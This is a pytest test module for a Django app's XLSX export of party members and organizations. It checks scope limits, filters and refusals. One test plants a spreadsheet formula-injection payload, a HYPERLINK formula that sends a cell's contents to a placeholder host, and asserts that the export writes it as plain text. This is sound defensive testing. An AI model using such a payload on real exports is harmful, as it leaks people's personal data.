"""Exports: exactly the visible, filtered members; organizations of a subtree."""

import datetime

import pytest
from django.urls import reverse

from tests import factories
from tests.factories import Role
from tests.organizations.test_xlsx_support import member_headers, organization_headers, read_back
from vanphong.organizations.models import Gender

pytestmark = pytest.mark.django_db


@pytest.fixture
def specialist(tree):
    return factories.user("chuyenvien", roles=[(Role.SPECIALIST, tree.commune_a)])


def _export(client, user, name="member_export", **params):
    client.force_login(user)
    response = client.get(reverse(f"organizations_xlsx:{name}"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return read_back(b"".join(response.streaming_content)).worksheets[0]


def _names(sheet) -> list[str]:
    return [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_export_holds_exactly_the_visible_members(client, tree, specialist):
    """GIVEN members in both communes
    WHEN a specialist of commune A exports without filters
    THEN the file holds commune A's members, with Vietnamese headers, labels and dd/mm/yyyy
    dates, and nobody of commune B."""
    sheet = _export(client, specialist)

    assert [c.value for c in sheet[1]] == member_headers()
    assert sorted(_names(sheet)) == sorted([tree.member_a1.full_name, tree.member_a2.full_name])
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == tree.member_a1.full_name)
    assert row[1].value == ("Nữ" if tree.member_a1.gender == Gender.FEMALE else "Nam")
    assert row[2].value == datetime.datetime.combine(tree.member_a1.birth_date, datetime.time())
    assert row[2].number_format == "dd/mm/yyyy"
    assert (row[6].value, row[7].value) == (tree.member_a1.citizen_id, tree.member_a1.card_number)
    assert row[10].value == "Chính thức"
    assert row[14].value == "Chi bộ thôn Làng Mới"


def test_export_applies_the_list_filters(client, tree, specialist):
    """GIVEN a third member of cell A1, a man, and the filters cell A1 + male
    WHEN the list is exported
    THEN only that member is in the file."""
    man = factories.member(tree.cell_a1, "Hoàng Văn Thái", gender=Gender.MALE)
    tree.member_a1.gender = Gender.FEMALE
    tree.member_a1.save()

    sheet = _export(client, specialist, to_chuc=tree.cell_a1.pk, gioi_tinh="male")

    assert _names(sheet) == [man.full_name]


def test_export_filtered_on_an_organization_out_of_scope_is_refused(client, tree, specialist):
    """GIVEN a specialist of commune A
    WHEN they export members with to_chuc set to commune B, or to an id that does not exist
    THEN the answer is 404, as for the organization export, and no file is sent."""
    client.force_login(specialist)
    url = reverse("organizations_xlsx:member_export")

    for org_id in (tree.commune_b.pk, 999_999):
        response = client.get(url, {"to_chuc": org_id})
        assert response.status_code == 404
        assert not response.get("Content-Type", "").startswith("application/vnd")


def test_user_text_is_written_as_text_never_as_a_formula(client, tree, specialist):
    """GIVEN a member whose hometown and name were typed as formulas, in an organization named
    like one WHEN the member and organization lists are exported THEN every such cell reads
    back as a string cell holding the typed text."""
    formula = '=HYPERLINK("http://example.invalid/?leak="&A2,"Xem")'
    tree.member_a1.hometown = formula
    tree.member_a1.save(update_fields=["hometown"])
    tree.commune_a.name = "=1+2"
    tree.commune_a.save(update_fields=["name"])

    members = _export(client, specialist)
    organizations = _export(client, specialist, name="organization_export")

    written = [
        c
        for sheet in (members, organizations)
        for row in sheet.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value.startswith("=")
    ]
    assert {c.value for c in written} >= {formula, "=1+2"}
    assert {c.data_type for c in written} == {"s"}


@pytest.mark.parametrize("role", [Role.CLERK, Role.ARCHIVIST])
def test_export_refused_without_the_export_right(client, tree, role):
    """GIVEN a user whose role does not include MEMBER_EXPORT
    WHEN they export
    THEN the answer is 404."""
    client.force_login(factories.user("khach", roles=[(role, tree.commune_a)]))

    assert client.get(reverse("organizations_xlsx:member_export")).status_code == 404


def test_organization_export_of_a_subtree(client, tree, specialist):
    """GIVEN a specialist of commune A
    WHEN they export the organizations of commune A
    THEN the file lists the commune and its two cells with codes, kinds and parents."""
    sheet = _export(client, specialist, name="organization_export", to_chuc=tree.commune_a.pk)

    assert [c.value for c in sheet[1]][1:] == organization_headers()
    assert [row[:5] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        (
            tree.commune_a.pk,
            "Đảng bộ xã Bảo Thắng",
            "ĐU",
            row_kind(tree.commune_a),
            "Đảng bộ tỉnh Lào Cai",
        ),
        (
            tree.cell_a1.pk,
            "Chi bộ thôn Làng Mới",
            "CB",
            row_kind(tree.cell_a1),
            "Đảng bộ xã Bảo Thắng",
        ),
        (
            tree.cell_a2.pk,
            "Chi bộ thôn Phú Hà",
            "CB",
            row_kind(tree.cell_a2),
            "Đảng bộ xã Bảo Thắng",
        ),
    ]


def row_kind(org) -> str:
    return org.get_kind_display()


def test_organization_export_out_of_scope_is_refused(client, tree, specialist):
    """GIVEN a specialist of commune A
    WHEN they ask for commune B's organizations
    THEN the answer is 404."""
    client.force_login(specialist)

    response = client.get(
        reverse("organizations_xlsx:organization_export"), {"to_chuc": tree.commune_b.pk}
    )

    assert response.status_code == 404
